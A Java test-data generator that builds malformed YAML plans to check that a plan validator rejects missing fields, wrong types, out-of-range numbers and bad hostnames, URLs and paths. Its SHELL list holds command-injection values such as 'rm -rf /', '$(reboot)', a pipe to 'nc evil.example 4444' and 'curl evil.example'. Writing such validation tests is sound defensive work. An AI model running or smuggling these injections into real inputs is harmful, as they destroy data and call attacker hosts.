package io.ferry.reliability;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Broken plans generated from a roadmap's example plan, knowing nothing of the roadmap: every field
 * the example documents as {@code # required} goes missing, every value gets the wrong type, every
 * mapping an unknown field, every number a negative or absurd value, and every hostname, URL and
 * path (and secret file reference) an empty, huge, unicode or shell-metacharacter value.
 */
final class PlanCorpus {

  /** One broken plan and the field its error must name. */
  record Case(String category, String field, String description, String yaml) {
    @Override
    public String toString() {
      return category + " " + field + ": " + description;
    }
  }

  static final List<String> SHELL =
      List.of(
          "x; rm -rf /",
          "$(reboot)",
          "`id`",
          "a|nc evil.example 4444",
          "a && curl evil.example",
          "a\nrm -rf /",
          "a'\"b",
          "a > /etc/passwd");

  private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());
  private static final Pattern KEY_LINE = Pattern.compile("^(\\s*)([A-Za-z][A-Za-z0-9_-]*):(.*)$");
  private static final Pattern HOSTISH =
      Pattern.compile("(?i).*(host|url|domain|target|address).*");

  private PlanCorpus() {}

  static List<Case> generate(String exampleYaml) {
    JsonNode example = read(exampleYaml);
    List<Case> cases = new ArrayList<>();
    for (String path : requiredFields(exampleYaml)) {
      if (at(example, path) != null) {
        cases.add(mutate(example, "missing", path, "removed", (p, k) -> p.remove(k)));
      }
    }
    objects(
        example,
        "",
        (path, node) -> {
          String field = path.isEmpty() ? "unexpectedField" : path + ".unexpectedField";
          cases.add(
              mutate(
                  example,
                  "unknown",
                  field,
                  "an unknown field",
                  path.isEmpty()
                      ? root -> ((ObjectNode) root).put("unexpectedField", "x")
                      : root -> ((ObjectNode) at(root, path)).put("unexpectedField", "x")));
        });
    leaves(
        example,
        "",
        (path, value) -> {
          cases.add(
              mutate(
                  example,
                  "mistyped",
                  path,
                  "a mapping instead of a value",
                  (p, k) -> p.putObject(k).put("nested", "value")));
          if (value.isNumber()) {
            cases.add(
                mutate(
                    example,
                    "mistyped",
                    path,
                    "text instead of a number",
                    (p, k) -> p.put(k, "many")));
            cases.add(mutate(example, "out-of-range", path, "-1", (p, k) -> p.put(k, -1)));
            cases.add(
                mutate(
                    example,
                    "out-of-range",
                    path,
                    "1e15",
                    (p, k) -> p.put(k, 1_000_000_000_000_000L)));
          }
          if (value.isBoolean()) {
            cases.add(
                mutate(
                    example,
                    "mistyped",
                    path,
                    "'maybe' instead of a boolean",
                    (p, k) -> p.put(k, "maybe")));
          }
          if (value.isTextual() && addressOrPath(path, value.asText())) {
            String text = value.asText();
            String prefix = text.startsWith("file:") ? "file:" : "";
            cases.add(mutate(example, "empty", path, "\"\"", (p, k) -> p.put(k, "")));
            cases.add(
                mutate(
                    example,
                    "huge",
                    path,
                    "5000 characters",
                    (p, k) ->
                        p.put(
                            k,
                            prefix
                                + (prefix.isEmpty() && text.startsWith("/") ? "/" : "")
                                + "a".repeat(5000))));
            cases.add(
                mutate(
                    example,
                    "unicode",
                    path,
                    "with unicode",
                    (p, k) -> p.put(k, text + "\u202e\u00e9\u4f8b")));
            for (String shell : SHELL) {
              cases.add(
                  mutate(
                      example,
                      "shell",
                      path,
                      shell.replace("\n", "\\n"),
                      (p, k) -> p.put(k, text + shell)));
            }
          }
        });
    return cases;
  }

  /** Hostnames, addresses, URLs, domains, absolute paths and secret file references. */
  private static boolean addressOrPath(String path, String value) {
    String key = path.substring(path.lastIndexOf('.') + 1);
    return HOSTISH.matcher(key).matches()
        || value.startsWith("/")
        || value.startsWith("file:/")
        || value.matches("[0-9]{1,3}(\\.[0-9]{1,3}){3}")
        || value.matches("[a-z]+://.*");
  }

  /** Dotted paths of the mapping keys whose line in the example says {@code # required}. */
  static List<String> requiredFields(String yaml) {
    List<String> required = new ArrayList<>();
    Deque<Map.Entry<Integer, String>> stack = new ArrayDeque<>();
    for (String line : yaml.split("\n")) {
      Matcher m = KEY_LINE.matcher(line);
      if (!m.matches()) {
        continue;
      }
      int indent = m.group(1).length();
      while (!stack.isEmpty() && stack.peek().getKey() >= indent) {
        stack.pop();
      }
      stack.push(Map.entry(indent, m.group(2)));
      if (m.group(3).matches(".*#\\s*required\\b.*")) {
        List<String> parts = new ArrayList<>();
        stack.descendingIterator().forEachRemaining(e -> parts.add(e.getValue()));
        required.add(String.join(".", parts));
      }
    }
    return required;
  }

  private interface Edit {
    void apply(ObjectNode parent, String key);
  }

  private static Case mutate(
      JsonNode example, String category, String path, String what, Edit edit) {
    return mutate(
        example,
        category,
        path,
        what,
        root -> {
          int dot = path.lastIndexOf('.');
          ObjectNode parent = (ObjectNode) (dot < 0 ? root : at(root, path.substring(0, dot)));
          edit.apply(parent, path.substring(dot + 1));
        });
  }

  private static Case mutate(
      JsonNode example, String category, String path, String what, Consumer<JsonNode> edit) {
    JsonNode copy = example.deepCopy();
    edit.accept(copy);
    try {
      return new Case(category, path, what, YAML.writeValueAsString(copy));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static JsonNode at(JsonNode root, String path) {
    JsonNode node = root;
    for (String part : path.split("\\.")) {
      node = node == null ? null : node.get(part);
    }
    return node;
  }

  /** Every mapping reachable through mappings (lists are left alone: their paths are indexed). */
  private static void objects(
      JsonNode node, String path, java.util.function.BiConsumer<String, JsonNode> each) {
    if (!node.isObject()) {
      return;
    }
    each.accept(path, node);
    for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
      Map.Entry<String, JsonNode> e = it.next();
      objects(e.getValue(), path.isEmpty() ? e.getKey() : path + "." + e.getKey(), each);
    }
  }

  /** Every scalar reachable through mappings, with its dotted path. */
  private static void leaves(
      JsonNode node, String path, java.util.function.BiConsumer<String, JsonNode> each) {
    for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
      Map.Entry<String, JsonNode> e = it.next();
      String p = path.isEmpty() ? e.getKey() : path + "." + e.getKey();
      JsonNode v = e.getValue();
      if (v.isObject()) {
        leaves(v, p, each);
      } else if (v.isValueNode() && !v.isNull() && !p.equals("roadmap")) {
        each.accept(p, v);
      }
    }
  }

  private static JsonNode read(String yaml) {
    try {
      return YAML.readTree(yaml);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
